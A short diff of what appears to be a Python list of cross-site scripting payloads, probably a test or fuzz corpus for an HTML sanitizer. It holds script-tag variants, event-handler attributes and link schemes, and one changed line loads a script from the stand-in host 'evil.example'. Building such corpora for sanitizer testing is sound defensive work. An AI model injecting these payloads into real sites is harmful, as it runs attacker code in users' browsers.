@@ -159,7 +159,7 @@ ELEMENTS = [
     f"\ufeff<script>{RUN}</script>",
     f"<script>{RUN}",
     f"<script>{RUN}<!--",
-    f"<script src='//evil.example/x.js'></script>",
+    "<script src='//evil.example/x.js'></script>",
 ]
 ATTRIBUTES = [f"<{tag} {event}={RUN} src=x>x</{tag}>" for tag in TAGS[:6] for event in EVENTS]
 LINKS = [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
